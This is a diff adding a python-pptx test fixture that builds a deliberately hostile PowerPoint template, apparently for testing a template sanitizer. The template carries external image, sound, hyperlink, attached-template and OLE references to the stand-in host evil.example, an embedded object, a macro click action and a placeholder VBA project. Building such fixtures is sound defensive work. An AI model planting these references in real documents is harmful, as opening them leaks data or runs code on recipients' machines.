@@ -9,6 +9,8 @@ from pptx import Presentation
 from pptx.chart.data import CategoryChartData
 from pptx.enum.chart import XL_CHART_TYPE
 from pptx.opc.constants import RELATIONSHIP_TYPE
+from pptx.opc.package import Part
+from pptx.opc.packuri import PackURI
 from pptx.oxml import parse_xml
 from pptx.util import Inches, Pt
 
@@ -103,4 +105,69 @@ def as_potx(content: bytes) -> bytes:
         content,
         "[Content_Types].xml",
         lambda blob: blob.replace(b"presentationml.presentation.main+xml", b"presentationml.template.main+xml"),
+    )
+
+
+OUTSIDE, RUNNING = "//evil.example/", b"RUNS-EVIL"
+_NAMES = (
+    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
+)
+_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+_ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+
+
+@functools.cache
+def reaching_template() -> bytes:
+    """A template whose master, layout and theme lead to other machines and hold objects and macros."""
+    presentation = Presentation()
+    for number, host in enumerate((presentation.slide_master, presentation.slide_layouts[5]), 1):
+        for element in _reaching(host.part, number):
+            host.shapes._spTree.append(parse_xml(element))
+    theme = presentation.slide_master.part.part_related_by(RELATIONSHIP_TYPE.THEME)
+    picture = theme.relate_to(f"http:{OUTSIDE}ground.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
+    fill = f'<a:blipFill {_NAMES}><a:blip r:link="{picture}"/><a:stretch/></a:blipFill>'
+    theme._blob = theme.blob.replace(b"<a:bgFillStyleLst>", b"<a:bgFillStyleLst>" + fill.encode())
+    presentation.part.relate_to(f"http:{OUTSIDE}t.potx", _ATTACHED, is_external=True)
+    presentation.part.relate_to(_running(presentation.part, "/ppt/vbaProject.bin"), _VBA)
+    for name in ("identifier", "language", "version"):
+        setattr(presentation.core_properties, name, HIDDEN)
+    return saved(presentation)
+
+
+def _running(part: Any, name: str) -> Any:
+    return Part(PackURI(name), "application/vnd.ms-office.vbaProject", part.package, RUNNING)
+
+
+def _reaching(part: Any, number: int) -> tuple[str, ...]:
+    """A shape with clicks, a picture of another machine with a sound, and two objects, one of them embedded."""
+
+    def outside(kind: str, target: str) -> str:
+        return str(part.relate_to(target, kind, is_external=True))
+
+    link = outside(RELATIONSHIP_TYPE.HYPERLINK, f"http:{OUTSIDE}x")
+    picture = outside(RELATIONSHIP_TYPE.IMAGE, f"file:///{OUTSIDE}share/x.png")
+    sound = outside(RELATIONSHIP_TYPE.AUDIO, f"http:{OUTSIDE}a.mp3")
+    linked = outside(RELATIONSHIP_TYPE.OLE_OBJECT, f"file:{OUTSIDE}x.xlsx!Sheet1")
+    embedded = part.relate_to(_running(part, f"/ppt/embeddings/oleObject{number}.bin"), RELATIONSHIP_TYPE.OLE_OBJECT)
+    clicks = "".join(
+        f'<a:r><a:rPr><a:hlinkClick r:id="" action="ppaction://{action}"/></a:rPr><a:t>x</a:t></a:r>'
+        for action in ("macro?name=evil", "hlinkshowjump?jump=nextslide")
+    )
+    objects = (
+        f'<mc:AlternateContent {_NAMES}><mc:Choice Requires="v"><p:graphicFrame><p:nvGraphicFramePr>'
+        f'<p:cNvPr id="{name}" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic>'
+        '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
+        f'<p:oleObj r:id="{one}" progId="Excel.Sheet.12"><p:embed/></p:oleObj></a:graphicData></a:graphic>'
+        "</p:graphicFrame></mc:Choice><mc:Fallback/></mc:AlternateContent>"
+        for name, one in ((92, linked), (93, embedded))
+    )
+    return (
+        f'<p:sp {_NAMES}><p:nvSpPr><p:cNvPr id="90" name="s"><a:hlinkClick r:id="{link}"/></p:cNvPr><p:cNvSpPr/>'
+        f"<p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p>{clicks}</a:p></p:txBody></p:sp>",
+        f'<p:pic {_NAMES}><p:nvPicPr><p:cNvPr id="91" name="p"/><p:cNvPicPr/><p:nvPr><a:audioFile r:link="{sound}"/>'
+        f'</p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link="{picture}"/></p:blipFill><p:spPr/></p:pic>',
+        *objects,
     )
